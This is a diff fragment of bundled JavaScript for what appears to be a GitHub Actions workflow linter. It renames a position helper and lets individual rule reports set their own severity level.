 /** A scalar's text: literals as written, expressions as `${{ … }}`. */
@@ -719,9 +1405,9 @@ function scalar(token) {
     if (!token)
         return undefined;
     if ((0,workflow_parser_dist/* isLiteral */.c$)(token))
-        return { value: token.toString(), at: pos(token) };
+        return { value: token.toString(), at: model_pos(token) };
     if ((0,workflow_parser_dist/* isBasicExpression */.hR)(token))
-        return { value: token.toDisplayString(), at: pos(token) };
+        return { value: token.toDisplayString(), at: model_pos(token) };
     return undefined;
 }
 function entries(token) {
@@ -758,7 +1444,7 @@ function buildSteps(token) {
             expressions.push(...expressionSites(ifEntry.value, true));
         steps.push({
             index: index++,
-            at: pos(item),
+            at: model_pos(item),
             id: scalar(e.get('id')?.value),
             name: scalar(e.get('name')?.value),
             uses: scalar(e.get('uses')?.value),
@@ -1112,11 +1798,11 @@ async function lint(files, options) {
         const setting = options.ruleSettings?.get(rule.id);
         if (setting === 'off')
             continue;
-        const level = setting ?? rule.level;
         const context = {
             project,
             settings,
-            report(file, node, message) {
+            report(file, node, message, own) {
+                const level = setting ?? own ?? rule.level;
                 findings.push({ ruleId: rule.id, ruleName: rule.name, level, message, file: file.path, line: node.at.line, column: node.at.column });
             }
         };
